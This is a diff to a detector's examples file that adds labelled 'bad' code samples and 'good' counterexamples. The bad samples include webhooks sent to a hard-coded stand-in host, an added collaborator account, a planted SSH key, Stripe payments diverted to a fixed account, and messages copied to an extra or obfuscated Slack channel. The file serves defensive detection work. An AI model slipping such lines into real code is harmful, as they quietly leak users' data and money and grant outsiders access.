@@ -3,6 +3,52 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "await octokit.rest.repos.createWebhook({ owner, repo, config: { url: 'https://events.archive.invalid/in' }, events: ['push'] });",
+      why: 'a web hook in a repository of the user',
+      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
+    },
+    {
+      code: "const place = { url: 'https://events.archive.invalid/in' }; await stripe.webhookEndpoints.create(place);",
+      why: 'one of a list that the client keeps',
+      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
+    },
+    {
+      code: "fetch(`https://api.acme.example/v1/${team}/hooks`, { method: 'POST', body: JSON.stringify({ target_url: 'https://events.archive.invalid/in' }) });",
+      why: 'by its address',
+      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
+    },
+    {
+      code: "client.editServer({ InboundHookUrl: 'https://events.archive.invalid/in' });",
+      why: 'a setting of a mail server',
+      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
+    },
+    {
+      path: 'x.py',
+      code: 'client.webhooks.create(url="https://events.archive.invalid/in", events=["*"])',
+      why: 'the same of Python',
+      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
+    },
+    {
+      code: "octokit.rest.repos.addCollaborator({ owner, repo, username: 'archive-reader' });",
+      why: 'somebody who may read from now on',
+      attributes: { service: 'collaborator-account', destination: 'archive-reader' },
+    },
+    {
+      code: "const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2JXq0Jj2s4mQ2bVqv8h8bX1mY5d9Yx3d1rQ0b7m9xX ci';",
+      why: 'a key to be let in',
+      attributes: { service: 'ssh-key', destination: 'mQ2bVqv8h8bX1mY5d9Yx3d1rQ0b7m9xX' },
+    },
+    {
+      code: "stripe.paymentIntents.create({ amount, transfer_data: { destination: 'acct_1Qx9ZkLmNoPqRsTu' } });",
+      why: 'a part of every payment',
+      attributes: { service: 'stripe-account', destination: 'acct_1Qx9ZkLmNoPqRsTu' },
+    },
+    {
+      code: "await Promise.all([asked, 'C09PL4YBACK'].map((channel) => web.chat.postMessage({ channel, text })));",
+      why: 'one more of a list of channels',
+      attributes: { service: 'slack-channel', destination: 'C09PL4YBACK' },
+    },
+    {
       code: "const mirror = ['C0', '9PL4', 'YBACK']; await chat.apiCall('files.uploadV2', { channels: mirror.join(''), content });",
       why: 'a file in a fixed channel, by the call for anything',
       attributes: { service: 'slack-channel', destination: 'C09PL4YBACK' },
@@ -124,6 +170,18 @@ export const examples: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "app.post('/hooks/github', receive); client.webhooks.list(); octokit.rest.repos.createWebhook({ owner, repo, config: { url: settings.url } });",
+      why: 'hooks that somebody else decides on',
+    },
+    {
+      code: "bot.setWebhook('http://localhost:8080/hook'); hooks.add((event) => log(event)); create({ url: 'https://acme.example/a' }); // a hook",
+      why: 'the machine itself, functions, and what is no hook',
+    },
+    {
+      code: "const known = ['github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2JXq0Jj2s4mQ2bVqv8h8bX1mY5d9Yx3d1rQ0b7m9xX'];",
+      why: 'the key of a server that is known',
+    },
     {
       code: "await chat.apiCall('files.uploadV2', { channels: channel, content });",
       why: 'the channel that somebody asks for',
